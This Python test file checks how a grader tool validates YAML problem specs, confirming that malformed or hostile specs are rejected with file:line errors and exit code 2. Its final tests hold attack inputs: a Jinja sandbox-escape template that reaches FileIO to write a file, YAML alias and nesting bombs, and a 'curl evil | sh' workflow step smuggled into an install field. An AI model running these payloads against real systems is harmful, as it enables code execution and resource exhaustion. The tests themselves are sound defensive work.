"""A malformed spec fails with ``file:line: field: what is wrong``, exit 2, and writes nothing."""

from __future__ import annotations

import shutil

import pytest
from conftest import run_grader

from grader.errors import SpecError
from grader.spec.bank import load_bank


def errors_of(bank) -> list[str]:
    with pytest.raises(SpecError) as info:
        load_bank(bank.root)
    return [f"{p.file.split('bank/')[-1]}:{p.line}: {p.field}: {p.message}" for p in info.value.problems]


def test_tiny_bank_loads(tiny_bank):
    bank = load_bank(tiny_bank.root)
    assert set(bank.problems) == {"dot", "pick"}


BAD_SPECS = {
    "yaml_syntax": ("id: x\nkind: choice\ntitle: [unclosed\nprompt: p\n", "x.yaml:4: : invalid YAML"),
    "unknown_kind": ("id: x\nkind: essay\ntitle: t\nprompt: p\n", "x.yaml:2: kind: unknown kind 'essay' (kinds: choice, code, eigen, numeric, subspace, trace)"),
    "missing_kind": ("id: x\ntitle: t\nprompt: p\n", "x.yaml:1: kind: required field is missing"),
    "missing_field": ("id: x\nkind: choice\nprompt: p\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
                      "x.yaml:1: title: required field is missing"),
    "extra_field": ("id: x\nkind: choice\ntitle: t\nprompt: p\ncolour: red\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
                    "x.yaml:5: colour: unknown field"),
    "wrong_type": ("id: x\nkind: choice\ntitle: t\nprompt: p\nmultiple: maybe\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
                   "x.yaml:5: multiple: Input should be a valid boolean"),
    "no_correct_option": ("id: x\nkind: choice\ntitle: t\nprompt: p\noptions:\n  - {text: a}\n  - {text: b}\n",
                          "x.yaml:5: options: no option is marked 'correct: true'"),
    "id_not_file_name": ("id: y\nkind: choice\ntitle: t\nprompt: p\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
                         "x.yaml:1: id: id 'y' does not match the file name 'x.yaml'"),
    "empty_range": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  a:\n    low: 5\n    high: 3\nanswer: {ref: stats.mean, args: [a]}\n",
                    "x.yaml:6: params.a: empty range: low=5.0 is above high=3.0"),
    "no_valid_variant": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  A: {shape: [2, 2], low: 0, high: 0}\n"
                         "require:\n  - nonsingular: A\nanswer: {ref: linalg.transpose, args: [A]}\n",
                         "x.yaml:7: require: the parameter ranges admit no valid variant"),
    "unknown_reference": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nanswer:\n  ref: linalg.nope\n",
                          "x.yaml:6: answer.ref: no function 'linalg.nope' in reference/"),
    "unknown_argument": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  a: {low: 1, high: 2}\nanswer:\n  ref: stats.mean\n  args: [b]\n",
                         "x.yaml:9: answer.args.0: 'b' is not a parameter (parameters: a)"),
    "unknown_constraint": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  a: {low: 1, high: 2}\nrequire:\n  - orthogonal: a\n"
                           "answer: {ref: stats.mean, args: [a]}\n",
                           "x.yaml:8: require.0.orthogonal: Input should be 'nonsingular', 'distinct', 'nonconstant' or 'positive_definite'"),
    "undefined_in_prompt": ("id: x\nkind: numeric\ntitle: t\nprompt: '{{ zz }}'\nparams:\n  a: {low: 1, high: 2}\nanswer: {ref: stats.mean, args: [a]}\n",
                            "x.yaml:4: prompt: UndefinedError: 'zz' is undefined"),
}


@pytest.mark.parametrize("name", sorted(BAD_SPECS))
def test_bad_problem_spec_names_file_line_and_field(tiny_bank, name):
    text, expected = BAD_SPECS[name]
    tiny_bank.write("x.yaml", text)
    assert any(e.startswith(expected) for e in errors_of(tiny_bank)), errors_of(tiny_bank)


def test_duplicate_id_across_folders(tiny_bank):
    (tiny_bank.root / "more").mkdir()
    tiny_bank.write("more/dot.yaml", (tiny_bank.root / "dot.yaml").read_text())
    assert any(e.startswith("more/dot.yaml:1: id: duplicate id, first defined in") for e in errors_of(tiny_bank))


def test_assignment_with_unknown_and_repeated_problem(tiny_bank):
    tiny_bank.write("assignments/hw.yaml", "id: hw\ntitle: HW\nseed: 1\nproblems:\n  - {id: dot, points: 1}\n  - {id: ghost, points: 1}\n  - {id: dot, points: 2}\n")
    errors = errors_of(tiny_bank)
    assert any(e.startswith("assignments/hw.yaml:7: problems.2.id: problem 'dot' is listed twice") for e in errors), errors
    tiny_bank.write("assignments/hw.yaml", "id: hw\ntitle: HW\nseed: 1\nproblems:\n  - {id: dot, points: 1}\n  - {id: ghost, points: 1}\n")
    assert any(e.startswith("assignments/hw.yaml:6: problems.1.id: no problem 'ghost'") for e in errors_of(tiny_bank))


def test_all_errors_are_reported_at_once(tiny_bank):
    tiny_bank.write("x.yaml", BAD_SPECS["unknown_kind"][0])
    tiny_bank.write("y.yaml", BAD_SPECS["yaml_syntax"][0].replace("id: x", "id: y"))
    assert len(errors_of(tiny_bank)) == 2


def test_cli_exits_2_and_writes_nothing(tiny_bank, tmp_path):
    tiny_bank.write("x.yaml", BAD_SPECS["extra_field"][0])
    out = tmp_path / "out"
    untouched = run_grader("generate", tiny_bank.assignment, "--out", out)  # loading reads only the assignment's problems
    assert untouched.returncode == 0 and out.exists()
    shutil.rmtree(out)
    tiny_bank.write("assignments/hw.yaml", tiny_bank.assignment.read_text().replace("- id: pick", "- id: x\n  points: 1\n- id: pick"))
    for command in ("generate", "solve"):
        result = run_grader(command, tiny_bank.assignment, "--out", out)
        assert result.returncode == 2
        assert "x.yaml:5: colour: unknown field" in result.stderr
        assert not out.exists()
    result = run_grader("validate", tiny_bank.root)
    assert result.returncode == 2 and "x.yaml:5: colour: unknown field" in result.stderr


def test_generate_refuses_to_overwrite_without_force(tiny_bank, tmp_path):
    out = tmp_path / "out"
    assert run_grader("generate", tiny_bank.assignment, "--out", out).returncode == 0
    (out / "answers.yaml").write_text("dot: 3\n")
    result = run_grader("generate", tiny_bank.assignment, "--out", out)
    assert result.returncode == 2 and "--force" in result.stderr
    assert (out / "answers.yaml").read_text() == "dot: 3\n"


TRACE_SPECS = {
    "unknown_family": ("family: juggling\n", "x.yaml:5: family: unknown family 'juggling'"),
    "unknown_setting": ("family: adam\nsettings: {momentum: 0.9}\n", "x.yaml:6: settings.momentum: adam has no setting 'momentum'"),
    "bad_setting_value": ("family: adam\nsettings: {theta0: 1, grads: [1, 2], lr: -1}\n", "x.yaml:6: settings.lr: lr: Input should be greater than 0"),
}


@pytest.mark.parametrize("name", sorted(TRACE_SPECS))
def test_bad_trace_spec(tiny_bank, name):
    body, expected = TRACE_SPECS[name]
    tiny_bank.write("x.yaml", "id: x\nkind: trace\ntitle: t\nprompt: p\n" + body)
    assert any(e.startswith(expected) for e in errors_of(tiny_bank)), errors_of(tiny_bank)


def test_assignment_total_must_add_up(tiny_bank):
    tiny_bank.write("assignments/hw.yaml", "id: hw\ntitle: HW\nseed: 1\ntotal: 4\nproblems:\n  - {id: dot, points: 2}\n  - {id: pick, points: 1}\n")
    assert "assignments/hw.yaml:4: total: the problems' points add up to 3, not 4" in errors_of(tiny_bank)


HOSTILE_SPECS = {
    "template_reaches_python": ("id: x\nkind: numeric\ntitle: t\nprompt: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n"
                                "params:\n  a: {low: 1, high: 2}\nanswer: {ref: stats.mean, args: [a]}\n",
                                "x.yaml:4: prompt: SecurityError"),
    "oversize_shape": ("id: x\nkind: numeric\ntitle: t\nprompt: p\nparams:\n  A: {shape: [1000000, 1000000], low: 0, high: 1}\n"
                       "answer: {ref: linalg.transpose, args: [A]}\n",
                       "x.yaml:6: params.A: shape [1000000, 1000000] has 1000000000000 entries; a drawn parameter holds at most 10000"),
    "alias_bomb": ("id: x\nkind: choice\ntitle: &t t\nprompt: *t\noptions:\n  - {text: a, correct: true}\n  - {text: b}\n",
                   "x.yaml:3: : anchors and aliases (& and *) are not allowed"),
    "deep_nesting": ("id: x\nkind: choice\ntitle: t\nprompt: p\nextra: " + "[" * 500 + "]" * 500 + "\n",
                     "x.yaml:5: : nested more than 32 levels deep"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SPECS))
def test_a_spec_is_data_not_code(tiny_bank, name, tmp_path):
    """A shared bank cannot run code or exhaust the machine: each attempt is a file:line error."""
    text, expected = HOSTILE_SPECS[name]
    tiny_bank.write("x.yaml", text)
    assert any(e.startswith(expected) for e in errors_of(tiny_bank)), errors_of(tiny_bank)


def test_a_template_cannot_write_a_file(tiny_bank, tmp_path):
    target = tmp_path / "written-by-a-template"
    prompt = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'FileIO' %}"
              f"{{{{ c('{target}', 'w') }}}}{{% endif %}}{{% endfor %}}")
    tiny_bank.write("x.yaml", {"id": "x", "kind": "numeric", "title": "t", "prompt": prompt, "params": {"a": {"low": 1, "high": 2}},
                               "answer": {"ref": "stats.mean", "args": ["a"]}})
    result = run_grader("validate", tiny_bank.root)
    assert result.returncode == 2 and "prompt: SecurityError" in result.stderr and not target.exists()


def test_a_spec_that_is_not_utf8_is_a_line_error(tiny_bank):
    (tiny_bank.root / "x.yaml").write_bytes(b"id: x\nkind: choice\ntitle: caf\xe9\n")
    assert "x.yaml:3: : not UTF-8 text (byte 0xe9 at offset 29)" in errors_of(tiny_bank)


def test_the_install_field_cannot_add_a_workflow_step(tiny_bank):
    tiny_bank.write("assignments/hw.yaml", 'id: hw\ntitle: HW\nseed: 1\ninstall: "x\\n      - run: curl evil | sh"\n'
                                           "problems:\n  - {id: dot, points: 2}\n")
    assert any(e.startswith("assignments/hw.yaml:4: install: String should match pattern") for e in errors_of(tiny_bank))
